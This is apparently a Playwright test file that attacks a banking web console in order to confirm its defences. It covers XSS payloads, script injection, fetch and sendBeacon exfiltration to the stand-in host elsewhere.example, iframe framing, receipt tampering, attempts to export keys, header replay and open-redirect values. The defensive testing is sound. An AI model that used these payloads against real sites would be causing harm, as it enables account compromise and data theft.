/** Attacks on the console, each as somebody would try it; SECURITY.md names them. */
import { readFileSync } from 'node:fs';
import type { Page, Request } from '@playwright/test';
import { test } from './customer';
import { Authenticator, expect, problemsOf } from './test';

test.describe.configure({ timeout: 120_000 });

const ELSEWHERE = 'https://elsewhere.example';

/** Fills in a payment, up to the button that signs it. */
async function prepare(page: Page, to: string, amount: string, memo: string): Promise<void> {
  await page.goto('/transfer');
  await page.getByText('Number', { exact: true }).click();
  await page.getByLabel('Account number').fill(to);
  await page.getByLabel('Amount').fill(amount);
  await page.getByLabel('Memo').fill(memo);
  await page.getByRole('button', { name: 'Review' }).click();
  await page.getByRole('button', { name: 'Continue to sign' }).click();
}
const sign = (page: Page) => page.getByRole('button', { name: 'Sign and send' });

test('a name and a memo that are markup stay text', { tag: '@desktop' }, async ({
  page,
  enter,
  pay,
  payee,
}) => {
  const name = '<img src=x onerror="globalThis.hit=1">';
  const memo = '<script>globalThis.hit=1</script><a href="javascript:globalThis.hit=1">look</a>';
  const me = await enter('20', name);
  await pay(me, payee, '100', memo);
  await page.goto('/');
  await expect(page.getByRole('heading', { level: 1 })).toContainText(name);
  await page.goto(`/accounts/${me.account}`);
  await expect(page.getByText(memo)).toBeVisible();
  expect(await page.evaluate(() => 'hit' in globalThis)).toBe(false);
  expect(await page.locator('main img, main script, main a[href^="javascript"]').count()).toBe(0);
});

test('what is injected does not run, and nothing is sent elsewhere', { tag: '@desktop' }, async ({
  page,
}) => {
  const left: string[] = [];
  // Answered, if it ever were asked: so that nothing but the policy stands in the way.
  await page.route(`${ELSEWHERE}/**`, (route) => {
    left.push(route.request().url());
    return route.fulfill({ body: 'globalThis.hit = 1', contentType: 'text/javascript' });
  });
  await page.goto('/login');
  await expect(page.getByRole('heading', { level: 1, name: 'Sign in' })).toBeVisible();
  const through = await page.evaluate(async (elsewhere) => {
    // Out of the debugger's own call, to which the policy does not apply.
    await new Promise((done) => setTimeout(done));
    const put = (tag: string, members: Record<string, string>) => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(members)) element.setAttribute(name, value);
      document.body.append(element);
      return element;
    };
    const code = 'globalThis.hit = 1';
    const tries: Record<string, () => unknown> = {
      'markup as text': () => {
        document.body.insertAdjacentHTML('beforeend', `<img src="x:" onerror="${code}">`);
      },
      'code as text': () => setTimeout(code),
      'a function of text': () => Reflect.construct(Function, [code])(),
      'another policy of Trusted Types': () =>
        (
          globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }
        ).trustedTypes.createPolicy('default', { createHTML: (text: string) => text }),
      'a request': () => fetch(`${elsewhere}/?stolen`),
      'a worker of text': () =>
        new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })), { type: 'module' }),
    };
    // What fails without a word: whether it did anything is seen below.
    const quiet: (() => unknown)[] = [
      () => put('script', {}).append(code),
      () => put('script', { src: `${elsewhere}/a.js` }),
      () => put('img', { src: 'data:,', onerror: code }),
      () => put('img', { src: `${elsewhere}/stolen.png` }),
      () => put('iframe', { src: `${elsewhere}/` }),
      () => put('base', { href: elsewhere }),
      () => put('a', { href: `javascript:${code}` }).click(),
      () => (put('form', { action: `${elsewhere}/`, method: 'post' }) as HTMLFormElement).submit(),
      () => navigator.sendBeacon(`${elsewhere}/beacon`, 'stolen'),
    ];
    const through: string[] = [];
    for (const [name, attempt] of Object.entries(tries)) {
      try {
        await attempt();
        through.push(name);
      } catch {
        // As it should be.
      }
    }
    for (const attempt of quiet) {
      try {
        attempt();
      } catch {
        // As well.
      }
    }
    await new Promise((done) => setTimeout(done, 500));
    if ('hit' in globalThis) through.push('code ran');
    return through;
  }, ELSEWHERE);
  expect(through).toEqual([]);
  expect(left).toEqual([]);
  expect(page.url()).toContain('/login');
  const problems = problemsOf(page);
  expect(problems.filter((problem) => problem.startsWith('policy:')).length).toBeGreaterThan(5);
  problems.length = 0;
});

test('no other page has the console in a frame, nor holds its window', { tag: '@desktop' }, async ({
  page,
  bank,
}) => {
  const trap = `<!doctype html><title>a prize</title><iframe src="${bank.origin}/transfer"></iframe>`;
  await page.route('http://trap.localhost/**', (route) =>
    route.fulfill({ body: trap, contentType: 'text/html' }),
  );
  await page.goto('http://trap.localhost/');
  await expect.poll(() => page.frames().length).toBe(2);
  const framed = page.frames()[1];
  await expect.poll(() => framed?.url()).toContain('chrome-error:');
  const [opened, held] = await Promise.all([
    page.context().waitForEvent('page'),
    page.evaluate(async (address) => {
      const held = window.open(address);
      await new Promise((done) => setTimeout(done, 1_500));
      // Cut off from a window that it may no longer speak to, a page sees it as closed.
      return held === null || held.closed;
    }, `${bank.origin}/login`),
  ]);
  await expect(opened.getByRole('heading', { level: 1, name: 'Sign in' })).toBeVisible();
  expect(held).toBe(true);
  expect(await opened.evaluate(() => window.opener)).toBeNull();
  problemsOf(page).length = 0;
});

test('a receipt that was altered on its way, or is shown altered later, proves nothing', {
  tag: '@desktop',
}, async ({ page, enter, payee }) => {
  const altered = (leaf: string) => `${leaf.slice(0, 60)}${leaf[60] === 'A' ? 'B' : 'A'}${leaf.slice(61)}`;
  type Shown = { receipt: { leaf: string; code: string } };
  const me = await enter('100');
  await prepare(page, payee, '10', 'Altered');
  await page.route('**/api/transactions/transfer', async (route) => {
    const response = await route.fetch();
    const json = (await response.json()) as Shown & Shown['receipt'];
    const receipt = json.receipt ?? json;
    receipt.leaf = altered(receipt.leaf);
    await route.fulfill({ response, json });
  });
  await sign(page).click();
  await expect(page.getByText('No answer has come yet')).toBeVisible();
  await expect(page.getByRole('heading', { name: 'Paid' })).toHaveCount(0);
  await page.unroute('**/api/transactions/transfer');
  await page.getByRole('button', { name: 'Ask the bank again' }).click();
  await expect(page.getByRole('heading', { name: 'Paid' })).toBeVisible();
  await expect(page.getByText('The proof holds')).toBeVisible();

  // What this browser kept is believed no more than what the bank sends.
  const id = new URL(page.url()).pathname.split('/').at(-1) ?? '';
  await page.evaluate((id) => {
    const name = `strongroom-typed/receipt/${id}`;
    const kept = JSON.parse(sessionStorage.getItem(name) ?? '') as { code: string };
    sessionStorage.setItem(name, JSON.stringify({ ...kept, code: 'held' }));
  }, id);
  await page.reload();
  await expect(page.getByRole('heading', { name: 'Not proved' })).toBeVisible();
  await expect(page.getByText('The proof does not hold').first()).toBeVisible();
  await expect(page.getByRole('heading', { name: 'Paid' })).toHaveCount(0);

  // Later there is only what the bank shows.
  await page.evaluate(() => sessionStorage.clear());
  for (const alter of [
    (receipt: Shown['receipt']) => ({ ...receipt, code: 'held' }),
    (receipt: Shown['receipt']) => ({ ...receipt, leaf: altered(receipt.leaf) }),
  ]) {
    await page.route(`**/api/transactions/${id}`, async (route) => {
      const response = await route.fetch();
      const json = (await response.json()) as Shown;
      await route.fulfill({ response, json: { ...json, receipt: alter(json.receipt) } });
    });
    await page.goto(`/accounts/${me.account}?tx=${id}&tab=proof`);
    await expect(page.getByText('The proof does not hold')).toBeVisible();
    await expect(page.getByText('The proof holds')).toHaveCount(0);
    await page.unroute(`**/api/transactions/${id}`);
  }
});

test('keys locked by a passkey are not to be had by a script, and sign nothing without their person', {
  tag: '@desktop',
}, async ({ page, enter, payee }) => {
  const authenticator = await Authenticator.plugInto(page);
  await enter('50');
  const { keys, tier, out, opened } = await page.evaluate(async () => {
    const database = await new Promise<IDBDatabase>((done) => {
      const request = indexedDB.open('strongroom');
      request.onsuccess = () => done(request.result);
    });
    const all = await new Promise<unknown[]>((done) => {
      const request = database.transaction('values').objectStore('values').getAll();
      request.onsuccess = () => done(request.result);
    });
    database.close();
    const keys: CryptoKey[] = [];
    const wrapped: { iv: Uint8Array<ArrayBuffer>; ciphertext: Uint8Array<ArrayBuffer> }[] = [];
    const search = (value: unknown): void => {
      if (value instanceof CryptoKey) keys.push(value);
      else if (value && typeof value === 'object' && !ArrayBuffer.isView(value)) {
        if ('iv' in value && 'ciphertext' in value) wrapped.push(value as (typeof wrapped)[number]);
        for (const member of Object.values(value)) search(member);
      }
    };
    const profile = all.find((one) => (one as { keys?: { tier?: string } } | null)?.keys?.tier);
    search(all);
    const taken = (work: Promise<unknown>) => work.then(() => true).catch(() => false);
    const formats = ['raw', 'raw-seed', 'raw-private', 'pkcs8', 'jwk'];
    const out = await Promise.all(
      keys
        .filter((key) => key.type !== 'public')
        .flatMap((key) => formats.map((as) => taken(crypto.subtle.exportKey(as as 'raw', key)))),
    );
    wrapped.length = 0;
    search(profile);
    const openers = keys.filter((key) => key.usages.includes('decrypt'));
    const opened = await Promise.all(
      openers.flatMap((key) =>
        wrapped.map(({ iv, ciphertext }) =>
          taken(crypto.subtle.decrypt({ name: 'AES-GCM', iv }, key, ciphertext)),
        ),
      ),
    );
    const { keys: stored } = profile as { keys: { tier: string } };
    return { keys: keys.length, tier: stored.tier, out, opened };
  });
  expect(tier).toBe('passkey');
  expect(keys).toBeGreaterThan(0);
  expect(out).not.toContain(true);
  expect(opened.length).toBeGreaterThan(0);
  expect(opened).not.toContain(true);

  await prepare(page, payee, '5', 'Not by me');
  const sent: string[] = [];
  page.on('request', (request) => {
    if (request.method() === 'POST' && request.url().endsWith('/transfer')) sent.push(request.url());
  });
  // Another finger.
  await authenticator.verify(false);
  await sign(page).click();
  await expect(page.getByText('Your passkey was not used')).toBeVisible();
  expect(sent).toEqual([]);
});

test('a request that was seen is good for nothing again, and a session leaves nothing lying about', {
  tag: '@desktop',
}, async ({ page, enter, bank, request }) => {
  await enter('10');
  const seen = page.waitForRequest(
    (asked) => asked.method() === 'GET' && new URL(asked.url()).pathname === '/api/accounts',
  );
  await page.goto('/');
  await expect(page.getByText('10.00').first()).toBeVisible();
  const stolen: Request = await seen;
  const headers = await stolen.allHeaders();
  const carried = Object.fromEntries(
    ['authorization', 'strongroom-proof', 'content-digest']
      .map((name) => [name, headers[name] ?? ''])
      .filter(([, value]) => value !== ''),
  );
  expect(carried['strongroom-proof']).toBeTruthy();
  const again = (path: string, headers: Record<string, string>) =>
    request.get(`${bank.origin}${path}`, { headers }).then((answer) => answer.status());
  const { pathname, search } = new URL(stolen.url());
  expect(await again(pathname + search, carried)).toBe(401);
  expect(await again('/api/devices', carried)).toBe(401);
  expect(await again(pathname + search, { authorization: carried['authorization'] ?? '' })).toBe(401);

  const token = carried['authorization']?.split(' ').at(-1) ?? '';
  const lying = await page.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }]));
  expect(lying).not.toContain(token);
  expect(await page.context().cookies()).toEqual([]);
  await page.getByRole('button', { name: 'You and this session' }).click();
  await page.getByRole('button', { name: 'Sign out' }).click();
  await expect(page.getByRole('heading', { level: 1, name: 'Sign in' })).toBeVisible();
  const names = () =>
    page.evaluate(
      () =>
        new Promise<string[]>((done) => {
          const open = indexedDB.open('strongroom');
          open.onsuccess = () => {
            const asked = open.result.transaction('values').objectStore('values').getAllKeys();
            asked.onsuccess = () => done(asked.result.map(String));
          };
        }),
    );
  await expect.poll(names).not.toContain('session');
  expect(await page.evaluate(() => sessionStorage.length)).toBe(0);

  // Signing in leads nowhere but into the console, whatever the address says.
  for (const next of ['//elsewhere.example/', 'https://elsewhere.example/', '/\\elsewhere.example']) {
    await page.goto(`/login?next=${encodeURIComponent(next)}`);
    if (next.startsWith('//')) {
      await page.getByRole('button', { name: 'Sign in with this device' }).click();
    }
    await expect(page.getByRole('button', { name: 'You and this session' })).toBeVisible();
    expect(new URL(page.url()).origin).toBe(bank.origin);
  }
});

test('another bank at the address of the one that this browser knows is not believed', {
  tag: '@desktop',
}, async ({ page }) => {
  await page.goto('/login');
  await expect(page.getByText('This browser has no keys yet')).toBeVisible();
  const fixture = new URL('../fixtures/protocol.json', import.meta.url);
  const { trust } = (JSON.parse(readFileSync(fixture, 'utf8')) as { hedged: { trust: unknown } }).hedged;
  await page.route('**/api/security/info', async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, json: { ...((await response.json()) as object), trust } });
  });
  await page.reload();
  await expect(page.getByText('The bank’s answer is not believed')).toBeVisible();
  await expect(page.getByText('it is not the bank that this device knows')).toBeVisible();
});
